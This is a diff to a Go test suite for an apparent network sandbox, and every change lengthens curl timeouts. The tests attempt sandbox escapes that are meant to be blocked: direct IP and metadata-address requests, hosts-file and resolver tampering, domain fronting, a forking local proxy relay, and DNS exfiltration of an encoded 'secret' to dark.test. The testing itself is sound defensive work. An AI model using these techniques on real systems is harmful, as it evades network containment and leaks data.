@@ -22,9 +22,9 @@ echo "8.1.1.1 dark.test" >> /etc/hosts
 echo "198.19.0.1 dark.test" >> /etc/hosts
 echo "nameserver 8.9.9.9" > /etc/resolv.conf
 for at in 8.2.2.2 8.1.1.1 198.18.0.1 198.19.200.200 127.0.0.1 8.0.0.1 169.254.169.254; do
-  env -i /usr/bin/curl -sS -m 5 --noproxy '*' http://$at/ && echo got through to $at
+  env -i /usr/bin/curl -sS -m 20 --noproxy '*' http://$at/ && echo got through to $at
 done
-env -i /usr/bin/curl -sS -m 5 http://dark.test/ && echo got through by name
+env -i /usr/bin/curl -sS -m 20 http://dark.test/ && echo got through by name
 ip route add default via 198.18.0.1 2>/dev/null && echo has a route
 python3 - <<'E'
 import socket
@@ -44,8 +44,8 @@ func TestEscapeN7N10Tunnel(t *testing.T) {
 	onInternet(t, func(n *internet) {
 		program(n, "curl")
 		for _, way := range []string{"", "--noproxy '*'"} {
-			r := n.inside(`curl -sS -m 5 -k `+way+` --connect-to dark.test:443:good.test:443 https://dark.test/ && echo through
-curl -sS -m 5 `+way+` http://good.test:443/ && echo through
+			r := n.inside(`curl -sS -m 20 -k `+way+` --connect-to dark.test:443:good.test:443 https://dark.test/ && echo through
+curl -sS -m 20 `+way+` http://good.test:443/ && echo through
 true`, "--allow-domain", "good.test:443")
 			if strings.Contains(r.stdout, "hello") || n.heard("dark.test") || n.heard("good.test") {
 				n.Errorf("%q: %+v; seen %q", way, r, n.seen)
@@ -58,7 +58,7 @@ true`, "--allow-domain", "good.test:443")
 func TestEscapeN11N14Rebound(t *testing.T) {
 	onInternet(t, func(n *internet) {
 		for _, way := range []string{"", "--noproxy '*'"} {
-			r := n.inside(`for url in http://own.test/ http://inner.test:5432/ http://meta.test/; do curl -sS -m 5 `+way+` $url; done; true`,
+			r := n.inside(`for url in http://own.test/ http://inner.test:5432/ http://meta.test/; do curl -sS -m 20 `+way+` $url; done; true`,
 				"--allow-domain", "own.test", "--allow-domain", "inner.test", "--allow-domain", "meta.test")
 			if strings.Contains(r.stdout, "hello") || len(n.seen) > 0 {
 				n.Errorf("%q: %+v; seen %q", way, r, n.seen)
@@ -83,10 +83,10 @@ func TestEscapeN16N18DNS(t *testing.T) {
 		n.inside(`
 for name in c2VjcmV0.dark.test c2VjcmV0.good.test; do
   getent hosts $name; getent ahostsv6 $name
-  curl -sS -m 3 http://$name/; curl -sS -m 3 --noproxy '*' http://$name/
-  curl -sS -m 3 --socks5-hostname 198.18.0.1:3128 http://$name/
+  curl -sS -m 20 http://$name/; curl -sS -m 20 --noproxy '*' http://$name/
+  curl -sS -m 20 --socks5-hostname 198.18.0.1:3128 http://$name/
 done
-curl -sS -m 3 -k https://8.9.9.9/dns-query?name=c2VjcmV0
+curl -sS -m 20 -k https://8.9.9.9/dns-query?name=c2VjcmV0
 python3 - <<'E'
 import socket, struct
 name = b"".join(bytes([len(l)]) + l for l in b"c2VjcmV0.dark.test".split(b".")) + b"\0"
@@ -159,16 +159,16 @@ l = socket.create_server(("", 7000)); print("up", flush=True); l.accept(); print
 		stop := n.start(server, "up")
 		r := n.inside(`
 for at in 198.18.0.1 198.18.0.2 198.18.0.3 198.18.0.5 198.18.0.6 198.19.0.1; do
-  curl -sS -m 3 --noproxy '*' http://$at:7000/ && echo met at $at
+  curl -sS -m 20 --noproxy '*' http://$at:7000/ && echo met at $at
 done
 getent hosts dark.test && echo resolved
-curl -sS -m 5 http://dark.test/
+curl -sS -m 20 http://dark.test/
 python3 -c '
 import socket, os
 l = socket.create_server(("127.0.0.1", 3128))
 if os.fork(): os._exit(0)
 c, _ = l.accept(); up = socket.create_connection(("198.18.0.1", 3128)); up.sendall(c.recv(4096)); c.sendall(up.recv(4096)); c.close()'
-curl -sS -m 5 -x http://127.0.0.1:3128 http://dark.test/; true`, "--allow-domain", "good.test")
+curl -sS -m 20 -x http://127.0.0.1:3128 http://dark.test/; true`, "--allow-domain", "good.test")
 		if strings.Contains(r.stdout, "met") || strings.Contains(r.stdout, "resolved") || strings.Contains(r.stdout, "hello") || n.heard("dark.test") {
 			n.Errorf("met: %+v; seen %q", r, n.seen)
 		}
@@ -185,7 +185,7 @@ func TestEscapeN22N23NobodyElse(t *testing.T) {
 	onInternet(t, func(n *internet) {
 		before := listening(n)
 		cmd := n.command("demesne", "run", "--name", "box", "--allow-domain", "good.test", "--allow-domain", "198.18.0.0/15", "--", "sh", "-c",
-			"curl -sS -m 5 -x http://198.18.0.1:3128 http://198.18.0.1:3128/ | grep -q 'could not reach\\|blocked' && echo kept; exec sleep 60")
+			"curl -sS -m 20 -x http://198.18.0.1:3128 http://198.18.0.1:3128/ | grep -q 'could not reach\\|blocked' && echo kept; exec sleep 60")
 		stop := n.start(cmd, "kept")
 		if now := listening(n); now != before {
 			n.Errorf("listens on the host:\n%s\nbefore:\n%s", now, before)
